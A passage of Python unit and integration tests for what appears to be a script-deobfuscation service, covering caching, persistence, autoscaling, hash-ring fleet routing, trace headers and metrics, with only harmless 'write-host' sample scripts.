            snapshot["pipeline_duration_histogram"]
        )
        assert hist.count == 2
        assert hist.nonzero_buckets() >= 2
        request_hist = Histogram.from_dict(
            snapshot["request_duration_histogram"]
        )
        assert request_hist.count == 2

        text = render_metrics(snapshot)
        assert "# TYPE repro_pipeline_duration_seconds histogram" in text
        assert "repro_pipeline_duration_seconds_count 2" in text
        # Exemplars point at the slow request's trace.
        assert 'trace_id="' in text

    def test_techniques_reach_metrics(self, tmp_path):
        service = make_service(tmp_path, trace_path=None)
        service.start()
        try:
            service.submit(SCRIPT)
            text = render_metrics(service.metrics_snapshot())
        finally:
            service.close()
        assert 'repro_pipeline_techniques_total{technique="concat"} 1' \
            in text
        assert 'technique="layer_iex"' in text


class TestHttpTraceHeaders:
    def _post(self, url, body, headers=None):
        request = urllib.request.Request(
            url + "/deobfuscate",
            data=json.dumps(body).encode("utf-8"),
            headers={"Content-Type": "application/json",
                     **(headers or {})},
            method="POST",
        )
        try:
            with urllib.request.urlopen(request, timeout=30.0) as resp:
                return resp.status, json.loads(resp.read()), dict(
                    resp.headers
                )
        except urllib.error.HTTPError as error:
            return error.code, json.loads(error.read()), dict(
                error.headers
            )

    def test_response_carries_x_trace_id(self, tmp_path):
        service = make_service(tmp_path)
        server, thread = start_server(service)
        host, port = server.server_address[:2]
        url = f"http://{host}:{port}"
        try:
            status, record, headers = self._post(
                url, {"script": SCRIPT}
            )
            assert status == 200
            assert headers["X-Trace-Id"] == record["trace_id"]
        finally:
            server.shutdown()
            thread.join(timeout=5.0)
            server.server_close()
            service.close()

    def test_traceparent_header_is_honoured(self, tmp_path):
        service = make_service(tmp_path)
        server, thread = start_server(service)
        host, port = server.server_address[:2]
        url = f"http://{host}:{port}"
        caller = TraceContext.new()
        try:
            status, record, headers = self._post(
                url,
                {"script": "Write-Host hi\n"},
                headers={"traceparent": caller.to_traceparent()},
            )
            assert status == 200
            assert record["trace_id"] == caller.trace_id
            assert headers["X-Trace-Id"] == caller.trace_id
        finally:
            server.shutdown()
            thread.join(timeout=5.0)
            server.server_close()
            service.close()
