"""Unit tests for the sharded result cache (:mod:`repro.service.shard`).

Sharding must be invisible to callers — the same single-flight and LRU
guarantees as one :class:`ResultCache` — while placement stays
deterministic (the property the fleet router builds on) and the
aggregate budgets match the configured totals.
"""

import hashlib
import threading

from repro.service.cache import HIT, JOIN, LEAD
from repro.service.shard import ShardedResultCache, shard_index


def key_for(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


KEYS = [key_for(f"script-{i}") for i in range(512)]


class TestShardIndex:
    def test_deterministic_and_in_range(self):
        for key in KEYS:
            index = shard_index(key, 8)
            assert index == shard_index(key, 8)
            assert 0 <= index < 8

    def test_distribution_not_degenerate(self):
        counts = [0] * 8
        for key in KEYS:
            counts[shard_index(key, 8)] += 1
        # 512 SHA-256 keys over 8 shards: every shard populated, no
        # shard hoarding more than a third of the space.
        assert all(count > 0 for count in counts)
        assert max(counts) < len(KEYS) / 3

    def test_single_shard_degenerates(self):
        assert all(shard_index(key, 1) == 0 for key in KEYS)


class TestShardedCache:
    def test_put_get_roundtrip_and_len(self):
        cache = ShardedResultCache(shards=4)
        for position, key in enumerate(KEYS[:32]):
            cache.put(key, {"status": "ok", "n": position})
        assert len(cache) == 32
        for position, key in enumerate(KEYS[:32]):
            assert cache.get(key) == {"status": "ok", "n": position}

    def test_same_key_same_shard(self):
        cache = ShardedResultCache(shards=8)
        for key in KEYS[:64]:
            assert cache.shard_for(key) is cache.shard_for(key)

    def test_entry_budget_split_across_shards(self):
        cache = ShardedResultCache(max_entries=8, shards=4)
        for shard in cache._shards:
            assert shard.max_entries == 2
        for key in KEYS[:256]:
            cache.put(key, {"status": "ok"})
        # Aggregate never exceeds the configured total.
        assert len(cache) <= 8

    def test_single_flight_within_a_shard(self):
        cache = ShardedResultCache(shards=4)
        key = KEYS[0]
        outcome, flight = cache.lookup(key)
        assert outcome == LEAD
        outcome, joined = cache.lookup(key)
        assert outcome == JOIN
        assert joined is flight
        assert cache.in_flight == 1
        cache.resolve(key, {"status": "ok"})
        assert cache.in_flight == 0
        outcome, record = cache.lookup(key)
        assert outcome == HIT
        assert record == {"status": "ok"}

    def test_abandon_wakes_joiners_without_record(self):
        cache = ShardedResultCache(shards=2)
        key = KEYS[1]
        cache.lookup(key)  # lead
        _outcome, flight = cache.lookup(key)  # join
        waited = []
        thread = threading.Thread(
            target=lambda: waited.append(flight.wait(5.0))
        )
        thread.start()
        cache.abandon(key)
        thread.join(timeout=5.0)
        assert waited == [None]

    def test_snapshot_aggregates_counters(self):
        cache = ShardedResultCache(max_entries=64, shards=4)
        for key in KEYS[:16]:
            cache.put(key, {"status": "ok"})
        for key in KEYS[:16]:
            assert cache.get(key) is not None
        cache.get(key_for("never-stored"))
        snap = cache.snapshot()
        assert snap["entries"] == 16
        assert snap["hits"] == 16
        assert snap["misses"] == 1
        assert snap["shards"] == 4
        assert len(snap["shard_entries"]) == 4
        assert sum(snap["shard_entries"]) == 16
        assert snap["max_entries"] == 64
        assert snap["bytes"] == cache.current_bytes > 0


class TestPersistenceHooks:
    def test_entries_load_roundtrip(self):
        source = ShardedResultCache(shards=4)
        for position, key in enumerate(KEYS[:24]):
            source.put(key, {"status": "ok", "n": position})
        pairs = list(source.entries())
        assert len(pairs) == 24

        target = ShardedResultCache(shards=8)  # shard count may change
        stored = target.load(iter(pairs))
        assert stored == 24
        assert target.loaded_entries == 24
        assert target.snapshot()["loaded_entries"] == 24
        for position, key in enumerate(KEYS[:24]):
            assert target.get(key) == {"status": "ok", "n": position}

    def test_load_counts_only_what_fits(self):
        # A record above the per-shard byte budget is not stored; the
        # warm-start count must reflect reality, not the input length.
        target = ShardedResultCache(max_bytes=400, shards=4)
        pairs = [
            (KEYS[0], {"status": "ok"}),
            (KEYS[1], {"status": "ok", "blob": "x" * 4096}),
        ]
        stored = target.load(iter(pairs))
        assert stored == 1
        assert target.loaded_entries == 1

    def test_load_does_not_inflate_hit_counters(self):
        target = ShardedResultCache(shards=2)
        target.load(iter([(KEYS[0], {"status": "ok"})]))
        snap = target.snapshot()
        assert snap["hits"] == 0
