"""Queue-depth autoscaling of the service worker pool.

With ``max_jobs`` above ``jobs`` the dispatcher grows the fleet one
process at a time while admitted depth exceeds ``scale_up_depth`` per
worker, and shrinks back toward the ``jobs`` floor after the load has
stayed low for ``scale_down_idle`` seconds.  The tests drive real
load (sleeping worker scripts) and watch ``pool.jobs`` move.
"""

import threading
import time

from repro.service import DeobfuscationService, ServiceConfig
from tests.service.helpers import SLEEP_MARKER

COUNTING = "tests.service.helpers:counting_worker"


def submit_burst(service, count):
    """Fire *count* unique slow scripts concurrently; join them all."""
    errors = []

    def one(index):
        try:
            service.submit(f"# {SLEEP_MARKER}\nwrite-host a{index}")
        except Exception as exc:  # pragma: no cover — surfaced below
            errors.append(exc)

    threads = [
        threading.Thread(target=one, args=(index,)) for index in range(count)
    ]
    for thread in threads:
        thread.start()
    return threads, errors


def wait_for(predicate, timeout=15.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.02)
    return predicate()


class TestAutoscale:
    def test_grows_under_load_and_shrinks_when_idle(self):
        config = ServiceConfig(
            jobs=1,
            max_jobs=3,
            scale_up_depth=1.0,
            scale_down_idle=0.3,
            timeout=10.0,
            queue_limit=32,
            worker=COUNTING,
        )
        with DeobfuscationService(config) as service:
            threads, errors = submit_burst(service, 8)
            grew = wait_for(lambda: service.pool.jobs >= 2)
            for thread in threads:
                thread.join(timeout=30.0)
            assert not errors
            assert grew, "pool never grew under sustained queue depth"
            assert service.counters["scale_ups"] >= 1
            assert service.pool.jobs <= 3

            # Idle: depth is 0, so after scale_down_idle the pool
            # steps back down to the floor.
            shrank = wait_for(lambda: service.pool.jobs == 1)
            assert shrank, "pool never shrank back to the floor"
            assert service.counters["scale_downs"] >= 1
            snap = service.metrics_snapshot()
            assert snap["pool_size"] == 1
            assert snap["counters"]["scale_ups"] >= 1

    def test_disabled_without_max_jobs(self):
        config = ServiceConfig(
            jobs=1,
            timeout=10.0,
            queue_limit=32,
            worker=COUNTING,
        )
        with DeobfuscationService(config) as service:
            threads, errors = submit_burst(service, 4)
            for thread in threads:
                thread.join(timeout=30.0)
            assert not errors
            assert service.pool.jobs == 1
            assert service.counters["scale_ups"] == 0
            assert service.counters["scale_downs"] == 0

    def test_healthz_reports_live_pool_size(self):
        config = ServiceConfig(jobs=2, timeout=5.0, worker=COUNTING)
        with DeobfuscationService(config) as service:
            assert service.healthz()["pool_size"] == 2
