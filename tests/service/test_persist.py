"""Persistence tests: snapshot/journal round-trip, corruption, warm-start.

The fleet acceptance criterion lives here: a restarted service pointed
at the same ``cache_dir`` must answer previously-seen scripts from the
persisted cache — proven by a cross-process execution counter staying
flat across the restart, not just by the service's own hit counters.
"""

import json
import os

from repro.service import CachePersistence, DeobfuscationService, ServiceConfig
from repro.service.persist import JOURNAL_NAME, SNAPSHOT_NAME
from tests.service.helpers import COUNTER_ENV

COUNTING = "tests.service.helpers:counting_worker"


def make_persistence(tmp_path, **kwargs):
    return CachePersistence(str(tmp_path / "cache"), **kwargs)


class TestJournalRoundTrip:
    def test_append_then_load(self, tmp_path):
        writer = make_persistence(tmp_path)
        assert writer.load() == {}
        assert writer.warm_start is False
        for index in range(8):
            writer.append(f"{index:064x}", {"status": "ok", "n": index})
        writer.close()

        reader = make_persistence(tmp_path)
        entries = reader.load()
        assert len(entries) == 8
        assert entries[f"{3:064x}"] == {"status": "ok", "n": 3}
        assert reader.warm_start is True
        assert reader.loaded_entries == 8
        assert reader.skipped_records == 0

    def test_newest_duplicate_wins_and_orders_last(self, tmp_path):
        writer = make_persistence(tmp_path)
        writer.append("a" * 64, {"version": 1})
        writer.append("b" * 64, {"version": 1})
        writer.append("a" * 64, {"version": 2})
        writer.close()

        reader = make_persistence(tmp_path)
        entries = reader.load()
        assert entries["a" * 64] == {"version": 2}
        # Recency order: the re-written key moved to the fresh end, so
        # an LRU loading this evicts "b" first under pressure.
        assert list(entries) == ["b" * 64, "a" * 64]

    def test_compaction_moves_journal_into_snapshot(self, tmp_path):
        writer = make_persistence(tmp_path, compact_after=3)
        due = [
            writer.append(f"{index:064x}", {"n": index}) for index in range(3)
        ]
        assert due == [False, False, True]
        written = writer.compact(
            iter((f"{index:064x}", {"n": index}) for index in range(3))
        )
        assert written == 3
        assert os.path.getsize(writer.journal_path) == 0
        assert writer.compactions == 1

        reader = make_persistence(tmp_path)
        assert len(reader.load()) == 3
        assert reader.warm_start is True


class TestCorruptionTolerance:
    def test_garbage_truncated_and_tampered_lines_skipped(self, tmp_path):
        writer = make_persistence(tmp_path)
        writer.append("a" * 64, {"status": "ok"})
        writer.append("b" * 64, {"status": "ok"})
        writer.close()

        journal = tmp_path / "cache" / JOURNAL_NAME
        good = journal.read_bytes()
        tampered = json.dumps(
            # The embedded length no longer matches the record: a torn
            # write that happened to end on a newline.
            {"key": "c" * 64, "n": 99999, "record": {"status": "ok"}}
        ).encode("utf-8")
        journal.write_bytes(
            good
            + b"not json at all\n"
            + tampered + b"\n"
            + b'{"key": 42, "record": []}\n'
            + good.splitlines()[0][:25]  # truncated mid-write, no newline
        )

        reader = make_persistence(tmp_path)
        entries = reader.load()
        assert set(entries) == {"a" * 64, "b" * 64}
        assert reader.skipped_records == 4
        assert reader.warm_start is True

    def test_corrupt_snapshot_lines_also_counted(self, tmp_path):
        writer = make_persistence(tmp_path)
        writer.compact(iter([("a" * 64, {"status": "ok"})]))
        snapshot = tmp_path / "cache" / SNAPSHOT_NAME
        snapshot.write_bytes(snapshot.read_bytes() + b"\xff\xfe broken\n")

        reader = make_persistence(tmp_path)
        assert len(reader.load()) == 1
        assert reader.skipped_records == 1

    def test_blank_lines_are_not_counted_as_corruption(self, tmp_path):
        writer = make_persistence(tmp_path)
        writer.append("a" * 64, {"status": "ok"})
        writer.close()
        journal = tmp_path / "cache" / JOURNAL_NAME
        journal.write_bytes(journal.read_bytes() + b"\n\n")
        reader = make_persistence(tmp_path)
        assert len(reader.load()) == 1
        assert reader.skipped_records == 0


class TestServiceWarmStart:
    def service(self, tmp_path, **overrides):
        defaults = dict(
            jobs=2,
            timeout=10.0,
            queue_limit=64,
            worker=COUNTING,
            cache_dir=str(tmp_path / "cache"),
        )
        defaults.update(overrides)
        return DeobfuscationService(ServiceConfig(**defaults))

    def test_restart_answers_from_persisted_cache(self, tmp_path,
                                                  monkeypatch):
        counter = tmp_path / "executions.log"
        monkeypatch.setenv(COUNTER_ENV, str(counter))
        scripts = [f"write-host warm{index}" for index in range(10)]

        with self.service(tmp_path) as service:
            for script in scripts:
                record = service.submit(script)
                assert record["status"] == "ok"
            assert service.healthz()["warm_start"]["enabled"] is True
        executions_before = len(counter.read_text().splitlines())
        assert executions_before == 10

        with self.service(tmp_path) as restarted:
            health = restarted.healthz()
            assert health["warm_start"]["warm_start"] is True
            assert health["warm_start"]["loaded_entries"] == 10
            hits = 0
            for script in scripts:
                record = restarted.submit(script)
                assert record["status"] == "ok"
                hits += 1 if record["cache_hit"] else 0
            # The acceptance bar: >= 90% of previously-seen scripts are
            # answered without a pipeline execution.
            assert hits >= 9
            snap = restarted.metrics_snapshot()
            assert snap["persistence"]["warm_start"] is True
            assert snap["cache"]["loaded_entries"] == 10
        # Cross-process proof: the restart added no executions.
        assert len(counter.read_text().splitlines()) == executions_before

    def test_error_results_are_not_persisted(self, tmp_path):
        from tests.service.helpers import CRASH_MARKER

        with self.service(tmp_path, retries=0) as service:
            record = service.submit(f"# {CRASH_MARKER}\nwrite-host x")
            assert record["status"] == "error"
            record = service.submit("write-host keep")
            assert record["status"] == "ok"

        with self.service(tmp_path) as restarted:
            assert restarted.healthz()["warm_start"]["loaded_entries"] == 1

    def test_disabled_without_cache_dir(self, tmp_path):
        with self.service(tmp_path, cache_dir=None) as service:
            assert service.healthz()["warm_start"] == {"enabled": False}
            snap = service.metrics_snapshot()
            assert snap["persistence"] == {"enabled": False}
