"""Fleet tests: the hash ring, routing state, and the router proxy.

The load-bearing properties: routing is a pure function of
(instances, script) — every router replica agrees with no
coordination; removing an instance moves *only* that instance's keys
(consistent hashing's whole point); and the rendezvous fallback is
deterministic and spreads a dead instance's keys across the
survivors.  The proxy tests drive a real two-instance fleet in
process — asyncio edges over real worker pools — through
:class:`FleetHTTPServer`.
"""

import json
import threading
import urllib.request

import pytest

from repro.service import (
    DeobfuscationService,
    ServiceConfig,
    start_async_server,
)
from repro.service.fleet import (
    FleetHTTPServer,
    FleetState,
    HashRing,
    script_routing_key,
)
from tests.service.test_service import get, metric_value, post

KEYS = [script_routing_key(f"write-host k{i}") for i in range(400)]
INSTANCES = [f"http://127.0.0.1:{8000 + i}" for i in range(4)]


class TestRoutingKey:
    def test_ignores_trivia_but_not_content(self):
        assert script_routing_key("write-host a\r\n") == script_routing_key(
            "﻿write-host a\n"
        )
        assert script_routing_key("write-host a") != script_routing_key(
            "write-host b"
        )


class TestHashRing:
    def test_deterministic_across_instances_order(self):
        ring_a = HashRing(INSTANCES)
        ring_b = HashRing(list(reversed(INSTANCES)))
        assert [ring_a.route(k) for k in KEYS] == [
            ring_b.route(k) for k in KEYS
        ]

    def test_routes_land_on_configured_instances(self):
        ring = HashRing(INSTANCES)
        owners = {ring.route(key) for key in KEYS}
        assert owners <= set(INSTANCES)
        # 400 keys over 4 instances with 64 vnodes each: everyone
        # owns a share.
        assert owners == set(INSTANCES)

    def test_removal_moves_only_the_removed_instances_keys(self):
        full = HashRing(INSTANCES)
        removed = INSTANCES[1]
        shrunk = HashRing([i for i in INSTANCES if i != removed])
        moved = stayed = 0
        for key in KEYS:
            before = full.route(key)
            after = shrunk.route(key)
            if before == removed:
                assert after != removed
            elif before == after:
                stayed += 1
            else:
                moved += 1
        # Consistent hashing: keys not owned by the removed instance
        # keep their placement.
        assert moved == 0
        assert stayed > 0

    def test_empty_ring_raises(self):
        with pytest.raises(ValueError):
            HashRing([]).route(KEYS[0])

    def test_fallback_is_deterministic_and_excludes_dead(self):
        ring = HashRing(INSTANCES)
        dead = INSTANCES[0]
        healthy = [i for i in INSTANCES if i != dead]
        picks = [ring.fallback(key, healthy) for key in KEYS]
        assert picks == [ring.fallback(key, healthy) for key in KEYS]
        assert dead not in picks
        # The dead instance's keys spread across every survivor, not
        # onto one neighbour.
        orphan_picks = {
            ring.fallback(key, healthy)
            for key in KEYS
            if ring.route(key) == dead
        }
        assert orphan_picks == set(healthy)

    def test_fallback_empty_healthy_is_none(self):
        ring = HashRing(INSTANCES)
        assert ring.fallback(KEYS[0], []) is None


class TestFleetState:
    def test_pick_prefers_healthy_primary(self):
        state = FleetState(INSTANCES)
        key = KEYS[0]
        primary = state.ring.route(key)
        assert state.pick(key) == (primary, False)

    def test_pick_falls_back_when_primary_down(self):
        state = FleetState(INSTANCES)
        key = KEYS[0]
        primary = state.ring.route(key)
        state.mark_down(primary)
        instance, fallback = state.pick(key)
        assert fallback is True
        assert instance != primary
        state.mark_up(primary)
        assert state.pick(key) == (primary, False)

    def test_pick_none_when_all_down(self):
        state = FleetState(INSTANCES[:2])
        for instance in INSTANCES[:2]:
            state.mark_down(instance)
        assert state.pick(KEYS[0]) is None

    def test_counters(self):
        state = FleetState(INSTANCES[:2])
        state.count_routed(INSTANCES[0], fallback=False)
        state.count_routed(INSTANCES[1], fallback=True)
        state.count_rejected()
        counters = state.counters()
        assert counters["routed"][INSTANCES[0]] == 1
        assert counters["fallbacks"] == 1
        assert counters["rejected"] == 1


@pytest.fixture
def fleet():
    """Two real service instances behind a router; yields (state, url,
    handles)."""
    handles = [
        start_async_server(
            DeobfuscationService(
                ServiceConfig(jobs=1, timeout=10.0, queue_limit=16)
            )
        )
        for _ in range(2)
    ]
    urls = [
        f"http://{host}:{port}"
        for host, port in (h.server_address for h in handles)
    ]
    state = FleetState(urls)
    router = FleetHTTPServer(("127.0.0.1", 0), state)
    thread = threading.Thread(target=router.serve_forever, daemon=True)
    thread.start()
    host, port = router.server_address[:2]
    yield state, f"http://{host}:{port}", handles
    router.shutdown()
    thread.join(timeout=5.0)
    router.server_close()
    for handle in handles:
        handle.shutdown(drain=False)
        handle.server.service.close()


class TestRouterProxy:
    def test_routing_is_deterministic_and_matches_the_ring(self, fleet):
        state, url, _handles = fleet
        for index in range(6):
            script = f"write-host r{index}"
            expected = state.ring.route(script_routing_key(script))
            for _ in range(2):  # resubmission lands on the same box
                code, body, headers = post(url, {"script": script})
                assert code == 200
                assert body["status"] == "ok"
                assert headers["X-Repro-Instance"] == expected
                assert headers["X-Repro-Routing"] == "primary"
            # Second submission hit that instance's local cache.
            assert body["cache_hit"] is True

    def test_bad_requests_stopped_at_the_router(self, fleet):
        _state, url, _handles = fleet
        code, body, _h = post(url, {"no_script": True})
        assert code == 400
        status, _body = get(url, "/nope")
        assert status == 404

    def test_instance_errors_pass_through(self, fleet):
        _state, url, _handles = fleet
        # A 400 answered by the *instance* (bad policy survives the
        # router's thin script check) must not be mistaken for a dead
        # instance.
        code, body, _h = post(
            url, {"script": "write-host x", "policy": "no-such"}
        )
        assert code == 400
        assert "unknown policy" in body["error"]

    def test_healthz_aggregates_instances(self, fleet):
        _state, url, _handles = fleet
        status, body = get(url, "/healthz")
        health = json.loads(body)
        assert status == 200
        assert health["status"] == "ok"
        assert health["healthy_instances"] == 2
        assert all(
            report["status"] == "ok"
            for report in health["instances"].values()
        )

    def test_metrics_aggregates_and_counts_routing(self, fleet):
        _state, url, _handles = fleet
        for index in range(4):
            post(url, {"script": f"write-host m{index}"})
        status, metrics = get(url, "/metrics")
        assert status == 200
        assert metric_value(metrics, "repro_fleet_instances") == 2
        assert metric_value(metrics, "repro_fleet_healthy_instances") == 2
        # The merged service counters see every request exactly once.
        assert metric_value(metrics, "repro_service_requests_total") == 4
        routed = sum(
            float(line.rsplit(" ", 1)[1])
            for line in metrics.splitlines()
            if line.startswith("repro_fleet_routed_total{")
        )
        assert routed == 4

    def test_dead_instance_falls_back_and_recovers(self, fleet):
        state, url, handles = fleet
        # Find a script routed to instance 0, then kill instance 0.
        urls = state.instances
        target = next(
            f"write-host d{i}"
            for i in range(100)
            if state.ring.route(script_routing_key(f"write-host d{i}"))
            == urls[0]
        )
        victim = next(
            h for h in handles
            if f"http://{h.server_address[0]}:{h.server_address[1]}"
            == urls[0]
        )
        # A full shutdown closes the listener, so the router's forward
        # fails fast (connection refused) instead of hanging.
        victim.shutdown(drain=True)

        code, body, headers = post(url, {"script": target})
        assert code == 200
        assert body["status"] == "ok"
        assert headers["X-Repro-Instance"] != urls[0]
        assert headers["X-Repro-Routing"] == "fallback"
        assert state.counters()["fallbacks"] >= 1
        # The router noticed the death.
        assert urls[0] not in state.healthy_instances()

    def test_all_dead_is_503_with_retry_after(self, fleet):
        state, url, _handles = fleet
        for instance in state.instances:
            state.mark_down(instance)
        code, body, headers = post(url, {"script": "write-host x"})
        assert code == 503
        assert body["error"] == "no healthy instance"
        assert headers.get("Retry-After") == "5"
        for instance in state.instances:
            state.mark_up(instance)


class TestMergeSnapshots:
    def test_two_instances_sum_and_max(self):
        from repro.service.metrics import merge_snapshots

        services = [
            DeobfuscationService(ServiceConfig(jobs=1)).start()
            for _ in range(2)
        ]
        try:
            services[0].submit("write-host merge-a")
            services[0].submit("write-host merge-a")
            services[1].submit("write-host merge-b")
            merged = merge_snapshots(
                [service.metrics_snapshot() for service in services]
            )
            assert merged["counters"]["requests"] == 3
            assert merged["counters"]["cache_hits"] == 1
            assert merged["counters"]["executions"] == 2
            assert merged["instances"] == 2
            assert merged["workers"] == 2
            assert merged["cache"]["entries"] == 2
            assert merged["draining"] is False
            hist = merged["request_duration_histogram"]
            assert sum(hist["counts"]) == 3
        finally:
            for service in services:
                service.close()

    def test_empty_list_renders(self):
        from repro.service.metrics import merge_snapshots, render_metrics

        text = render_metrics(merge_snapshots([]))
        assert "repro_service_requests_total 0" in text


class TestRouterStatusz:
    def test_statusz_merges_instances(self, fleet):
        from repro.service.metrics import STATUSZ_SCHEMA_VERSION

        state, url, _handles = fleet
        traces = []
        for index in range(4):
            code, body, _h = post(
                url, {"script": f"write-host z{index}"}
            )
            assert code == 200
            traces.append(body["trace_id"])

        status, text = get(url, "/statusz")
        assert status == 200
        payload = json.loads(text)
        assert payload["schema_version"] == STATUSZ_SCHEMA_VERSION
        assert payload["instances"] == 2
        # The merged rolling window saw every request exactly once.
        one = payload["windows"]["1m"]
        assert one["requests"] == 4
        assert one["observations"] == 4
        # Exemplar trace ids survive the minute-by-minute merge: the
        # fleet-wide slowest request is one of the four we just made.
        assert one["exemplar"]["trace_id"] in traces
        # Router-side routing state rides along.
        assert payload["router"]["routed"]
        assert sum(payload["router"]["routed"].values()) == 4

    def test_statusz_skips_dead_instances(self, fleet):
        state, url, handles = fleet
        post(url, {"script": "write-host alive"})
        victim_url = state.instances[0]
        victim = next(
            h for h in handles
            if f"http://{h.server_address[0]}:{h.server_address[1]}"
            == victim_url
        )
        victim.shutdown(drain=True)
        status, text = get(url, "/statusz")
        payload = json.loads(text)
        assert status == 200
        assert payload["instances"] == 1
        assert victim_url not in state.healthy_instances()
