"""Tests for the live ``/statusz`` status page and its plumbing.

Covers both front ends (threaded and asyncio), the trace-correlation
chain the page is built for — a slow request's trace_id must be
findable in the rolling-window exemplar, the event-log tail, and the
``--log-file`` JSONL — plus the fleet-merge pieces: the labeled
request-duration histograms ``merge_snapshots`` folds per
language|policy, and the journal-corruption counter surfaced through
``/healthz`` and ``repro_service_cache_journal_dropped_total``.
"""

import json
import threading

import pytest

from repro.obs import Histogram
from repro.obs.log import (
    configure_logging,
    iter_events,
    reset_logging,
)
from repro.service import (
    DeobfuscationService,
    ServiceConfig,
    start_async_server,
    start_server,
)
from repro.service.metrics import (
    STATUSZ_SCHEMA_VERSION,
    merge_snapshots,
    render_metrics,
)
from repro.service.persist import JOURNAL_NAME, CachePersistence
from tests.service.helpers import SLEEP_MARKER
from tests.service.test_service import get, metric_value, post

COUNTING = "tests.service.helpers:counting_worker"


@pytest.fixture(autouse=True)
def _logging_state():
    reset_logging()
    yield
    reset_logging()


@pytest.fixture
def served():
    """A threaded-front-end service; yields ``make(**cfg) -> url``."""
    servers = []

    def make(**overrides):
        defaults = dict(jobs=1, timeout=15.0, queue_limit=16)
        defaults.update(overrides)
        service = DeobfuscationService(ServiceConfig(**defaults))
        server, thread = start_server(service)
        servers.append((service, server, thread))
        host, port = server.server_address[:2]
        return service, f"http://{host}:{port}"

    yield make
    for service, server, thread in servers:
        server.shutdown()
        thread.join(timeout=5.0)
        server.server_close()
        service.close()


class TestStatuszThreaded:
    def test_statusz_reports_windows_and_correlates_traces(self, served):
        configure_logging(level="debug")
        _service, url = served()
        code, body, _headers = post(url, {"script": "write-host s1"})
        assert code == 200

        status, text = get(url, "/statusz")
        assert status == 200
        payload = json.loads(text)
        assert payload["schema_version"] == STATUSZ_SCHEMA_VERSION
        assert payload["instances"] == 1

        one = payload["windows"]["1m"]
        assert one["requests"] == 1
        assert one["observations"] == 1
        assert one["latency_p50_ms"] > 0
        # The exemplar is the request we just made.
        assert one["exemplar"]["trace_id"] == body["trace_id"]

        # Per-language|policy latency survives into the payload.
        assert "powershell|recovery-strict" in payload["latency_by"]
        entry = payload["latency_by"]["powershell|recovery-strict"]
        assert entry["count"] == 1
        assert entry["language"] == "powershell"

        # The tail carries a trace-tagged accounting event.
        finished = [
            event
            for event in payload["log_tail"]
            if event["message"] == "request finished"
        ]
        assert finished
        assert finished[-1]["trace_id"] == body["trace_id"]

        # window_raw round-trips (the fleet router depends on it).
        assert payload["window_raw"]["slots"]

    def test_statusz_without_logging_still_serves(self, served):
        _service, url = served()
        post(url, {"script": "write-host s2"})
        status, text = get(url, "/statusz")
        payload = json.loads(text)
        assert status == 200
        assert payload["log_tail"] == []
        assert payload["windows"]["1m"]["requests"] == 1


class TestStatuszAsync:
    def test_statusz_on_the_asyncio_front_end(self):
        configure_logging(level="debug")
        service = DeobfuscationService(
            ServiceConfig(jobs=1, timeout=15.0, queue_limit=16)
        )
        handle = start_async_server(service)
        host, port = handle.server_address
        url = f"http://{host}:{port}"
        try:
            code, body, _headers = post(url, {"script": "write-host a1"})
            assert code == 200
            status, text = get(url, "/statusz")
            payload = json.loads(text)
            assert status == 200
            assert payload["schema_version"] == STATUSZ_SCHEMA_VERSION
            assert payload["windows"]["1m"]["requests"] == 1
            assert (
                payload["windows"]["1m"]["exemplar"]["trace_id"]
                == body["trace_id"]
            )
        finally:
            handle.shutdown(drain=False)
            service.close()


class TestSlowRequestCorrelation:
    def test_slow_trace_in_exemplar_tail_and_log_file(
        self, served, tmp_path
    ):
        log_file = tmp_path / "events.jsonl"
        # Configure before the service starts: forked workers inherit
        # the sink handle and append their pipeline events to it.
        configure_logging(level="debug", path=str(log_file))
        _service, url = served(worker=COUNTING, timeout=30.0)

        code, _fast, _h = post(url, {"script": "write-host quick"})
        assert code == 200
        code, slow, _h = post(
            url, {"script": f"write-host go # {SLEEP_MARKER}"}
        )
        assert code == 200
        trace_id = slow["trace_id"]

        status, text = get(url, "/statusz")
        payload = json.loads(text)
        one = payload["windows"]["1m"]
        assert one["requests"] == 2
        # The slow request dominates the window's exemplar...
        assert one["exemplar"]["trace_id"] == trace_id
        assert one["exemplar"]["value_ms"] >= 800
        # ...and the tail's accounting event carries the same trace.
        assert any(
            event.get("trace_id") == trace_id
            for event in payload["log_tail"]
        )
        # The worker's own pipeline events land in the shared JSONL
        # sink under the same trace — one grep finds the whole story.
        file_traces = {
            event.trace_id
            for event in iter_events(str(log_file))
            if event.trace_id
        }
        assert trace_id in file_traces


class TestJournalDroppedSurfacing:
    def make_corrupt_cache(self, tmp_path):
        directory = str(tmp_path / "cache")
        writer = CachePersistence(directory)
        writer.load()
        writer.append("a" * 64, {"status": "ok", "script": "x"})
        writer.close()
        journal = tmp_path / "cache" / JOURNAL_NAME
        journal.write_bytes(
            journal.read_bytes() + b"not json at all\n{broken\n"
        )
        return directory

    def test_healthz_and_metric_report_dropped_journal_lines(
        self, tmp_path
    ):
        directory = self.make_corrupt_cache(tmp_path)
        service = DeobfuscationService(
            ServiceConfig(jobs=1, queue_limit=4, cache_dir=directory)
        ).start()
        try:
            health = service.healthz()
            warm = health["warm_start"]
            assert warm["warm_start"] is True
            assert warm["journal_skipped_records"] == 2
            text = render_metrics(service.metrics_snapshot())
            assert metric_value(
                text, "repro_service_cache_journal_dropped_total"
            ) == 2
        finally:
            service.close()

    def test_corrupt_journal_drops_are_logged(self, tmp_path):
        configure_logging(level="debug")
        directory = self.make_corrupt_cache(tmp_path)
        from repro.obs.log import log_tail

        reader = CachePersistence(directory)
        reader.load()
        reader.close()
        dropped = [
            event
            for event in log_tail(limit=100, logger="service.persist")
            if event["message"].startswith("dropped corrupt")
        ]
        assert len(dropped) == 2
        assert all(
            event["fields"]["file"] == JOURNAL_NAME for event in dropped
        )


class TestLabeledHistogramMerge:
    def snapshot_with(self, label: str, values, trace: str):
        hist = Histogram()
        for value in values:
            hist.observe(value, trace)
        return {
            "counters": {"requests": len(values)},
            "request_duration_by": {label: hist.to_dict()},
        }

    def test_merge_snapshots_folds_per_label(self):
        merged = merge_snapshots(
            [
                self.snapshot_with(
                    "powershell|recovery-strict", [0.01, 0.02], "t-a"
                ),
                self.snapshot_with(
                    "powershell|recovery-strict", [4.0], "t-slow"
                ),
                self.snapshot_with("js|verify-observing", [0.5], "t-js"),
            ]
        )
        by = merged["request_duration_by"]
        assert set(by) == {
            "powershell|recovery-strict",
            "js|verify-observing",
        }
        ps = Histogram.from_dict(by["powershell|recovery-strict"])
        assert ps.count == 3
